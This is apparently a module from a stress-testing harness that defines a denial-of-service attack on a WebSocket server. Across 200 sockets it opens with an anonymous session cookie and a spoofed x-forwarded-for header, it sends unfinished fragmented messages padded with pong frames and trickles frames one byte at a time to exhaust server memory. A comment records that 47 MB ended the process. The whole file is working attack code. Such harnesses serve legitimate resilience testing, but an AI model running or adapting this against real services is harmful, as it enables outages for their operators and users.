import { once } from 'node:events';
import { setTimeout as pause } from 'node:timers/promises';
import { WebSocket } from 'ws';

const address = '10.66.0.2';
const socketCount = 200;
/** Size of the program's reads from a connection, in bytes. */
const readBytes = 64 * 1024;

/** A WebSocket frame of a client, masked with zeros. */
function frame(first, length) {
  const header = length < 126 ? [first, 0x80 | length] : [first, 0xfe, length >> 8, length & 255];
  return Buffer.concat([Buffer.from([...header, 0, 0, 0, 0]), Buffer.alloc(length, 'x')]);
}

const pongs = Buffer.concat(Array.from({ length: readBytes / 131 }, () => frame(0x8a, 125)));

/**
 * Sends fragmented messages that never end. Each fragment is in a read of its own that is filled with pongs, so that
 * one byte keeps 64 kB in memory. Also sends frames byte by byte. 47 MB of this ended the process; one socket could
 * keep up to 1 GB.
 */
export const attack = {
  name: 'unfinished messages',
  async run({ base, signal, request }) {
    const origin = new URL(base).origin;
    let opened = 0;
    let ended = 0;
    let sent = 0;
    // One visitor can have many sockets.
    const session = await request('/api/session/anonymous', { method: 'POST', headers: { origin } });
    const cookie = session.headers
      .getSetCookie()
      .map((text) => text.split(';')[0])
      .join('; ');
    async function fill(number) {
      const socket = new WebSocket(`${base.replace('http', 'ws')}/ws`, {
        headers: { cookie, origin, 'x-forwarded-for': address },
      });
      socket.on('error', () => {});
      if (
        !(await once(socket, 'open').then(
          () => true,
          () => false,
        ))
      )
        return;
      opened++;
      socket.once('close', () => ended++);
      const connection = socket._socket;
      const trickles = number % 4 === 0;
      let isFirst = true;
      if (trickles) connection.write(frame(0x81, 16_000).subarray(0, 20));
      while (!signal.aborted && connection.writable && sent < 512 * 1024 * 1024) {
        const bytes = trickles ? Buffer.from('x') : Buffer.concat([frame(isFirst ? 0x01 : 0x00, 1), pongs]);
        isFirst = false;
        sent += bytes.length;
        if (!connection.write(bytes))
          await Promise.race([once(connection, 'drain'), once(connection, 'close')]).catch(() => {});
        await pause(trickles ? 100 : 5);
      }
      socket.terminate();
    }
    const all = Array.from({ length: socketCount }, (_, at) => fill(at + 1));
    await Promise.all(all);
    return `${opened} sockets sent ${Math.round(sent / 1e6)} MB; the program ended ${ended}`;
  },
};
